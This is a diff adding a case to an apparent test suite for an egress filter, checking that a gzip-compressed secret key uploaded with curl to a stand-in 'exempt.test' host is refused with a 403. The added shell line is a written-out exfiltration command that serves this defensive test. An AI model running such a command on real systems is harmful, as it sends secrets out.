@@ -438,6 +438,12 @@ def test_gzip_body_is_refused(bottle: Bottle, recorder: Recorder) -> None:
     assert out.stdout.startswith("403") and "gzip" in out.stdout, out.stdout + out.stderr
     assert len(recorder.received()) == before
     _wait_for(bottle, lambda r: r.get("finding") == "unreadable-body" and r.get("encoding") == "gzip", "gzip")
+    # the same trick without the header: a gzip'd file holding the key, even to the exempt host
+    out = bottle.sh(f"printf 'KEY=%s' {REAL_KEY} | gzip > /tmp/k.gz; "
+                    "curl -sS -o /dev/null -w '%{http_code}' -H 'Content-Type: application/octet-stream' "
+                    "--data-binary @/tmp/k.gz https://exempt.test/up")
+    assert out.stdout == "403", out.stdout + out.stderr
+    assert len(recorder.received()) == before
 
 
 def test_exempt_host_receives_token_shaped_content(bottle: Bottle, recorder: Recorder) -> None:
